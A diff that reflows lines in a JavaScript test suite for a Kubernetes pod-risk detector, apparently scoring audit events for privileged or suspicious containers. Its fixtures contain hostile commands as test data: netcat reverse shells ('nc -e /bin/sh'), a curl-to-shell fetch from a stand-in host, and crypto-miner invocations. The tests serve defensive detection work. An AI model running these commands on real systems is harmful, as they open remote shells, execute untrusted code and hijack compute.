@@ -61,7 +61,10 @@ describe('the table of signals', () => {
 
 describe('a signal', () => {
   it('is one, however many containers have it', () => {
-    const spec = { containers: [{ ...CONTAINER, ...PRIVILEGED }], initContainers: [{ name: 'setup', ...PRIVILEGED }] };
+    const spec = {
+      containers: [{ ...CONTAINER, ...PRIVILEGED }],
+      initContainers: [{ name: 'setup', ...PRIVILEGED }],
+    };
     const { signals } = riskOf(pod(spec, CONTROLLER, OWNED));
     assert.deepEqual(signals, [
       {
@@ -84,7 +87,11 @@ describe('a signal', () => {
   it('shows outside text inside quotes, on one line, printable and short', () => {
     const name = `a"\n\t\u202e\u0000${'x'.repeat(500)}`;
     const { signals } = riskOf(
-      pod({ containers: [{ name, image: `ubuntu${name}/xmrig`, ...PRIVILEGED, command: ['nc', '-e', 'sh'] }] }, as(name), { ...inKubeSystem, name }),
+      pod(
+        { containers: [{ name, image: `ubuntu${name}/xmrig`, ...PRIVILEGED, command: ['nc', '-e', 'sh'] }] },
+        as(name),
+        { ...inKubeSystem, name },
+      ),
     );
     assert.ok(signals.length >= 4);
     for (const { text } of signals) {
@@ -97,7 +104,11 @@ describe('a signal', () => {
   it('repeats nothing of a command or a value, which may hold secrets', () => {
     const secret = 'hunter2';
     const container = {
-      command: ['sh', '-c', `nc -e /bin/sh ${secret} 1; curl -u ${secret}:${secret} http://drop.example/${secret} | sh; xmrig -u ${secret}`],
+      command: [
+        'sh',
+        '-c',
+        `nc -e /bin/sh ${secret} 1; curl -u ${secret}:${secret} http://drop.example/${secret} | sh; xmrig -u ${secret}`,
+      ],
       env: [{ name: 'PASSWORD', value: `stratum+tcp://${secret}@h:1` }],
     };
     const text = JSON.stringify(riskOf(podWith(container)).signals);
@@ -107,7 +118,17 @@ describe('a signal', () => {
 
   it('is found whatever the spec holds', () => {
     for (const odd of [null, 7, 'x', [], [null], [{ name: 7 }], {}])
-      for (const field of ['containers', 'initContainers', 'volumes', 'hostPID', 'securityContext', 'serviceAccountName'])
-        assert.ok(assessRisk({ event: readAuditEvent(pod({ [field]: odd })), created: 'Pod', lists: LISTS }).score >= 0);
+      for (const field of [
+        'containers',
+        'initContainers',
+        'volumes',
+        'hostPID',
+        'securityContext',
+        'serviceAccountName',
+      ])
+        assert.ok(
+          assessRisk({ event: readAuditEvent(pod({ [field]: odd })), created: 'Pod', lists: LISTS }).score >=
+            0,
+        );
   });
 });
